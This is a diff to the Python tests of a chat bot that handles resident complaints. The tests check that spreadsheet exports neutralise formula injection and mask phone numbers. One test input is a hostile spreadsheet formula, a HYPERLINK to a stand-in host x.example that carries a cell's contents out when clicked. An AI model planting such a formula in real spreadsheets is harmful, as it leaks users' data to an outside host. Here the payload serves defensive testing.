@@ -3,6 +3,7 @@ outbox rows and downloaded back through getFile."""
 
 from __future__ import annotations
 
+import asyncio
 import datetime as dt
 import io
 
@@ -136,3 +137,48 @@ async def test_export_is_for_managers_of_the_unit_only(h):
     assert (await h.api.wait_for_bot_message(STREET_MIAOQIAN_CHAT))["text"] == texts.EXPORT_NOT_YOUR_UNIT
     await h.drain()
     assert not await Outbox.filter(file_kind__isnull=False).exists()
+
+
+async def test_a_written_explanation_typed_as_a_formula_stays_text_in_every_workbook(h, db_url, monkeypatch, tmp_path):
+    """A 书面说明 starting with = (or + - @, tab, full-width ＝) would run as a formula when the
+    manager opens /export or `gridbot export`: every cell arrives as text, and the resident's
+    phone number written into it is masked."""
+    from openpyxl import load_workbook
+
+    from bot import cli
+    from tests.test_e2e_sla import run_sweep_now
+
+    number = await submit_report(h, h.resident(), "南海街1号院楼下早餐店油烟太大")
+    h.rt.clock.advance(dt.timedelta(hours=72))
+    run_sweep_now(h)
+    await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT, has("🔴", number))
+    worker = h.staff(WORKER_NHJ1_01, "张丽")
+    await h.api.send_text(worker, f"/explain {number}", chat_id=GRID_NHJ1_01_CHAT)
+    prompt = await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT, has("请回复本消息"))
+    why = '=HYPERLINK("http://x.example/?"&A2,"点我")&"居民电话13800138000"'
+    await h.api.send_text(worker, why, chat_id=GRID_NHJ1_01_CHAT, reply_to=prompt)
+    await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT, has(texts.SLA_EXPLAINED.format(number=number)))
+    copy = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: (m.get("text") or "").startswith("📝"))
+    assert "13800138000" not in copy["text"] and "138****8000" in copy["text"]  # the command centre's copy
+
+    await h.api.send_text(h.staff(COMMANDER, "冯晓燕"), "/export month", chat_id=COMMAND_CHAT)
+    message = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: "document" in m)
+    sent = load_workbook(io.BytesIO(await download(h, message["document"]["file_id"])))
+    monkeypatch.setenv("DATABASE_URL", db_url)
+    out = tmp_path / "export.xlsx"
+    assert await asyncio.to_thread(cli.main, ["export", "--month", "2026-11", str(out)]) == 0
+    for book in (sent, load_workbook(out)):
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
+        reds = list(book["红灯工单"].iter_rows(values_only=True))
+        row = dict(zip(reds[0], reds[1]))
+        assert row["工单号"] == number
+        assert row["书面说明"] == "'" + why.replace("13800138000", "138****8000")
+
+
+def test_every_formula_start_becomes_text():
+    from bot.services import cells
+
+    for start in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", " ="):
+        assert cells.safe(start + "1+1") == "'" + start + "1+1"
+    assert [cells.safe(v) for v in ("油烟", "3号楼", "", 12, -3, 0.5, None)] == ["油烟", "3号楼", "", 12, -3, 0.5, None]
